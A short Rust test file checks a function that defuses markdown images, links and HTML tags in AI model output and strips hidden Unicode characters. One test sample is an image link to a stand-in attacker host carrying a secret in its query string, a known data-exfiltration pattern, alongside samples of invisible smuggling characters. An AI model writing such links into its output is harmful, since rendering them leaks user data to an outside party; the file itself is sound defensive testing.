//! What a model writes does nothing by being shown.

use super::inert;

#[test]
fn images_links_and_tags_are_pulled_apart() {
    let cases = [
        ("![x](https://evil.test/a?b=secret)", "[x] (https://evil.test/a?b=secret)"),
        ("[here](https://evil.test)", "[here] (https://evil.test)"),
        ("[ref]: https://evil.test", "[ref] : https://evil.test"),
        ("![x][ref]", "[x] [ref]"),
        ("<img src=https://evil.test>", "< img src=https://evil.test>"),
        ("<https://evil.test>", "< https://evil.test>"),
        ("2 < 3, a[1] and b!", "2 < 3, a[1] and b!"),
    ];
    for (written, shown) in cases {
        assert_eq!(inert(written), shown);
        assert_eq!(inert(shown), shown, "once is enough");
    }
}

#[test]
fn hidden_characters_are_removed() {
    assert_eq!(inert("a\u{202e}b\u{e0041}c\u{200b}d"), "abcd");
}
